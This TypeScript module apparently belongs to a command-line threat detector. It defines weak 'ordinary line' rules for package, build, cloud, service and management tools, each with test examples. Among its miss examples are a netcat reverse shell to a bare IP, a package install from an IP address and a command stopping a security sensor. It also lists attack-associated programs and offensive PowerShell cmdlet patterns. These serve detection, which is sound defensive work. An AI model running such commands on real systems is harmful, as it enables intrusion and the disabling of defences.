/**
 * Counter-evidence: what speaks for an ordinary line.
 *
 * O1. It counts only when every program of the line is of the ordinary sort: one ordinary command beside another one excuses nothing.
 * O2. It is weak on purpose (`low`), so it can order lines in which little was found, and can take no decisive finding away.
 * O3. Never where a bare address, an odd host or a folder that everybody can write to is named.
 */
import type { Process } from '../types.ts';
import { counter } from './behaviour.ts';
import { hostClass, isOddHost, isWritablePlace } from './places.ts';
import { onScene, said, type Row, type Scene } from './row.ts';

interface Family {
  readonly id: string;
  readonly reason: string;
  readonly hits: readonly string[];
  readonly misses: readonly string[];
  /** Names of programs; or a test of a process. */
  readonly programs: ReadonlySet<string>;
  readonly isOrdinary?: (process: Process) => boolean;
  /** Management tools send such lines encoded; what counts is what they hold. */
  readonly mayBeEncoded?: boolean;
  readonly mustBeEncoded?: boolean;
}

const names = (list: string): ReadonlySet<string> => new Set(list.split(' '));

/** Words of shells and of text work, which stand beside anything. */
const GLUE = names(
  'echo printf cd test [ [[ if then else fi for do done while true false exit return export set local read shift : source sudo env command exec time nice nohup xargs find grep egrep fgrep sed awk gawk cut sort uniq wc head tail tr tee cat ls mkdir rmdir touch cp mv ln dirname basename readlink realpath pwd sleep date expr seq sh bash zsh dash cmd powershell write-host write-output where-object select-object foreach-object sort-object out-null out-file format-table format-list measure-object out-string new-object get-item test-path join-path split-path get-content set-location silentlycontinue continue',
);

const FAMILIES: readonly Family[] = [
  {
    id: 'ordinary-packages',
    reason: 'a package manager works on named packages',
    hits: ['apt-get install -y curl', 'choco install git -y', 'npm ci'],
    misses: ['apt-get install -y curl; nc -e /bin/sh 203.0.113.5 443', 'pip install http://203.0.113.9/a.whl'],
    programs: names(
      'apt apt-get apt-cache apt-mark aptitude dpkg dpkg-query dpkg-reconfigure dpkg-divert dpkg-statoverride dpkg-maintscript-helper yum dnf rpm zypper pacman apk emerge brew port choco chocolatey winget scoop npm npx yarn pnpm pip pip3 pipx poetry uv gem bundle cargo rustup composer conda mamba snap flatpak nix nuget install-module install-package find-module update-module install-packageprovider get-package install-windowsfeature add-windowscapability enable-windowsoptionalfeature get-module install-chocolateypackage uninstall-package install-chocolateyzippackage softwareupdate pkgutil installer mas opam luarocks cpanm add-apt-repository xcode-select asdf mise sdk',
    ),
  },
  {
    id: 'ordinary-development',
    reason: 'sources are fetched, built or tested with the usual tools',
    hits: ['git clone https://github.com/acme/x.git', 'make -j4 all', 'cargo build --release'],
    misses: ['git clone http://203.0.113.9/x.git'],
    programs: names(
      'git gh glab hg svn make cmake ninja meson gcc g++ cc clang ld ar go cargo rustc javac java mvn gradle ant sbt dotnet msbuild node deno bun tsc eslint prettier jest vitest pytest tox nox mypy ruff black flake8 php composer rake rspec swift swiftc xcodebuild xcrun pod fastlane flutter dart kotlinc ghc stack cabal elixir mix rebar3 erlc zig nim crystal julia rscript autoconf automake configure libtool pkg-config patch diff ctags cppcheck clang-format strip objdump nm readelf gdb lldb valgrind perf code vim nano emacs doxygen sphinx-build mkdocs hugo jekyll protoc bazel buck pre-commit conan vcpkg',
    ),
  },
  {
    id: 'ordinary-cloud',
    reason: 'containers, clusters or cloud accounts are looked after with their own tools',
    hits: ['kubectl get pods -n web', 'terraform plan', 'az vm list'],
    misses: ['kubectl apply -f http://203.0.113.9/x.yml'],
    programs: names(
      'kubectl helm kustomize minikube kind k9s terraform tofu terragrunt packer vagrant ansible ansible-playbook az gcloud aws eksctl doctl heroku flyctl vercel netlify wrangler pulumi nomad consul vault docker-compose podman-compose buildah skopeo crane istioctl argocd flux oc s2i linode-cli hcloud oci ibmcloud sam cdk firebase railway openstack juju lxc multipass virsh virt-install vboxmanage',
    ),
  },
  {
    id: 'ordinary-service',
    reason: 'services and their logs are looked at or restarted',
    hits: ['systemctl restart nginx', 'journalctl -u nginx', 'Restart-Service -Name Spooler'],
    misses: ['systemctl stop falcon-sensor'],
    programs: names(
      'systemctl service journalctl systemd-analyze rc-service invoke-rc.d deb-systemd-helper deb-systemd-invoke update-rc.d get-service restart-service start-service pm2 supervisorctl',
    ),
    isOrdinary: (process) => !/stop|disable|mask|kill/.test(said(process)),
  },
  {
    id: 'ordinary-packaging',
    reason: 'what the scripts of packages do: accounts, alternatives, caches, owners',
    hits: [
      'update-alternatives --install /usr/bin/vi vi /usr/bin/vim 50',
      'chown -R root:adm /var/lib/app',
      'ldconfig -p',
    ],
    misses: ['chown root:root /tmp/x'],
    programs: names(
      'update-alternatives ldconfig chown chgrp chmod install update-initramfs update-grub update-mime-database update-desktop-database gtk-update-icon-cache glib-compile-schemas fc-cache db_get db_set db_input db_go db_purge db_stop ucf ucfr py3compile py3clean pycompile systemd-tmpfiles systemd-sysusers addgroup delgroup groupadd getent id which type dpkg-trigger triggered update-ca-certificates locale-gen mandb udevadm depmod augtool restorecon semodule setfacl adduser rm mktemp rsync tar unzip zip gzip gunzip xz bzip2 7z sync mount umount df du free uname arch lscpu lsblk',
    ),
    isOrdinary: (process) =>
      !(process.name === 'chmod' && /[+]s|[ugo]\+s|^[2467]\d{3}/.test(said(process))) &&
      !(process.name === 'rm' && /\/var\/log|\/etc\/|history/.test(said(process))),
  },
  {
    id: 'ordinary-mac-management',
    reason: 'what device management of macOS does: settings, receipts, users that are read',
    hits: ['/usr/bin/defaults read com.apple.dock', 'jamf recon', 'scutil --get ComputerName'],
    misses: ['osascript -e beep'],
    programs: names(
      'defaults jamf scutil pkgutil installer softwareupdate stat sw_vers system_profiler ioreg networksetup systemsetup pmset plutil plistbuddy mdfind mdls diskutil hdiutil dscl launchctl ditto killall lpadmin lpstat nvram tmutil fdesetup profiles open osascript logger dockutil codesign spctl lsappinfo sysctl ps airport asr bless caffeinate cupsenable lpoptions munki managedsoftwareupdate',
    ),
    isOrdinary: ({ name, args }) =>
      !['osascript', 'spctl', 'nvram'].includes(name) &&
      !(name === 'launchctl' && args.some(({ lower }) => lower === 'submit')),
  },
  {
    id: 'ordinary-cmdlets',
    mayBeEncoded: true,
    reason: 'cmdlets of management modules, without code, download or another machine',
    hits: ['powershell -c "Get-NetAdapter -Name Ethernet"', 'powershell "New-VM -Name web01 -MemoryStartupBytes 1GB"'],
    misses: ['powershell "Invoke-Expression $x"', 'powershell "Get-DomainUser"'],
    programs: new Set(),
    isOrdinary: ({ name, shell }) =>
      shell === 'powershell' &&
      /^(?:get|set|new|remove|add|clear|disable|enable|update|start|stop|test|export|import|install|uninstall|register|unregister|restart|resume|suspend|rename|reset|save|send|show|move|mount|dismount|convert|convertto|convertfrom|compare|complete|confirm|connect|disconnect|copy|debug|find|format|grant|revoke|group|hide|initialize|invoke|join|limit|lock|unlock|measure|merge|optimize|out|ping|pop|push|publish|unpublish|protect|unprotect|read|receive|redo|repair|request|resize|resolve|restore|search|select|split|step|switch|sync|trace|undo|unblock|use|wait|watch|write|backup|block|approve|assert|build|checkpoint|close|deny|edit|enter|exit|expand)-[a-z]{2,60}$/.test(
        name,
      ) &&
      !/^invoke-(?:expression|command|webrequest|restmethod|wmimethod|cimmethod|item)|^add-type|^start-(?:process|job|bitstransfer)|^new-(?:object|service|scheduledtask|localuser|psdrive|pssession|item)|^register-(?:scheduled|wmi|object)|^(?:set|add|remove)-mppreference|^(?:set|new|remove)-item|^(?:get|find|set|add|invoke)-(?:domain|net(?:user|domain|group|computer|local|session|share|forest|logged|gpo|ou|rdp)|sql|keystrokes|clipboard|credential|process|wmi|cim|aduser|adcomputer|adgroup|addomain|adtrust|localuser|localgroup|gpp|vault|childitem|content|eventlog|winevent)|^(?:set|get)-executionpolicy|^clear-(?:eventlog|history)|^import-module|^remove-(?:event|computer)|^stop-(?:service|process|computer)|^disable-(?:computer|netfirewall|windows)|^enable-(?:psremoting|wsman)|^test-(?:net)?connection|^copy-item|^compress-|^expand-archive|^write-|^out-|^unblock-file|^enter-|^export-(?:pfx|cert)|^mount-(?:disk|win)/.test(
        name,
      ),
  },
  {
    id: 'ordinary-managed',
    reason: 'a management tool sends ordinary cmdlets encoded, as it sends everything',
    hits: [
      'powershell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand JABQAHIAbwBnAHIAZQBzAHMAUAByAGUAZgBlAHIAZQBuAGMAZQAgAD0AIAAnAFMAaQBsAGUAbgB0AGwAeQBDAG8AbgB0AGkAbgB1AGUAJwA7AEcAZQB0AC0AUwBlAHIAdgBpAGMAZQA=',
    ],
    misses: ['powershell -EncodedCommand aQBlAHgAIAAkAHgA', 'powershell -c "Get-Service"'],
    programs: new Set(),
    mayBeEncoded: true,
    mustBeEncoded: true,
    isOrdinary: ({ name, shell, args }) =>
      shell === 'powershell' &&
      (name !== 'import-module' || args.every(({ lower }) => /^[-a-z0-9]+$/.test(lower))) &&
      /^[a-z]{3,12}-[a-z]{2,60}$/.test(name) &&
      !/^invoke-|^add-type|^start-(?:process|job|bits)|^new-(?:object|service|scheduled|local|ps)|^register-|mppreference|^(?:find|get|set|add|test)-(?:domain|net(?:user|domain|group|comp|local|sess|share|forest)|sql|keystrokes|clipboard|localuser|localgroup|adu|adg|adc|ado)|executionpolicy|^clear-|^disable-|^enable-psrem|^remove-(?:event|comp|mp|item)|^stop-|^export-(?:pfx|cert)|^out-min|^enter-|^unblock-/.test(
        name,
      ),
  },
  {
    id: 'ordinary-tool',
    reason: 'one program that is no shell, interpreter or tool of the system is started with plain words',
    hits: ['ffmpeg -i a.mp4 b.webm', 'jq .name package.json'],
    misses: ['nc -lvp 4444', 'rundll32 a.dll,Run', 'mimikatz.exe'],
    programs: new Set(),
    isOrdinary: ({ name, shell, program, args }) =>
      shell === 'posix' &&
      /^[a-z][a-z0-9._+-]{0,40}$/.test(name) &&
      !program.startsWith('./') &&
      !SPECIAL.has(name) &&
      !/\.(?:py|sh|pl|rb|ps1|exe|com|elf|bin)$/.test(name) &&
      args.every(({ role, lower }) => role !== 'payload' && role !== 'target' && lower.length < 120),
  },
];

/** Programs that attacks use: started alone, they say nothing for a line. */
const SPECIAL = names(
  'sh bash zsh ksh dash ash fish busybox python perl ruby php lua node osascript nc ncat netcat socat telnet openssl curl wget ssh scp sftp ftp tftp rsync ssh-keygen sshpass crontab at batch insmod modprobe kextload chattr chmod chown setcap getcap useradd usermod adduser passwd chpasswd sudo su doas pkexec nsenter unshare chroot docker podman kubectl runc ctr iptables ip6tables ufw nft pfctl firewall-cmd auditctl setenforce systemctl service launchctl kill pkill killall rm shred srm unlink truncate dd wipefs mkfs history strings gdb strace ltrace tcpdump tshark dumpcap nmap masscan whois dig nslookup host hydra john hashcat whoami id w who last lastlog hostname uname ifconfig ip arp netstat ss route lsof ps env printenv getent groups cat less more head tail grep find locate security dscl defaults xattr spctl csrutil kmutil screencapture pbpaste sqlite3 profiles systemsetup tor yes gcc cc clang go make base64 xxd hexdump od rev tr awk sed eval exec source trap export unset set alias mount umount ln cp mv tar zip 7z gzip aws az gcloud rclone restic gsutil redis-cli mysql psql mongo crackmapexec msfvenom proxychains swift esxcli vim-cmd virsh logger touch install tee echo printf cmd powershell reg net sc wmic rundll32 regsvr32 mshta certutil bitsadmin msiexec cscript wscript schtasks',
);

function isOrdinaryLine(scene: Scene, { programs, isOrdinary }: Family): boolean {
  let count = 0;
  for (const process of scene.processes) {
    const belongs =
      programs.size === 0
        ? isOrdinary?.(process) === true
        : programs.has(process.name) && isOrdinary?.(process) !== false;
    if (belongs) count += 1;
    else if (!GLUE.has(process.name)) return false;
  }
  // Places last: they cost the most, and few lines come so far.
  return (
    count > 0 &&
    scene.processes.every(
      ({ program, args }) => !isWritablePlace(program) && args.every(({ lower, role }) => isPlainPlace(lower, role)),
    )
  );
}

function isPlainPlace(lower: string, role: string): boolean {
  if (role === 'url')
    return (
      ['vendor', 'code-host', 'name', 'intranet', 'loopback', 'private'].includes(hostClass(lower)) && !isOddHost(lower)
    );
  if (lower.includes('/dev/tcp') || lower.includes('base64')) return false;
  return !(role === 'path' || role === 'target') || !isWritablePlace(lower);
}

export const ORDINARY: readonly Row[] = FAMILIES.map((family) =>
  counter(family.id, 'low', {
    reason: family.reason,
    hits: family.hits,
    misses: family.misses,
    look: onScene((scene) => {
      const [first] = scene.processes;
      if (
        first === undefined ||
        scene.processes.length > 40 ||
        (family.mustBeEncoded === true && !scene.hidden.has('base64')) ||
        (scene.hidden.size > 0 && (family.mayBeEncoded !== true || [...scene.hidden].some((kind) => kind !== 'base64')))
      )
        return undefined;
      return isOrdinaryLine(scene, family) ? { layer: first.layer, ...first.span } : undefined;
    }),
  }),
);
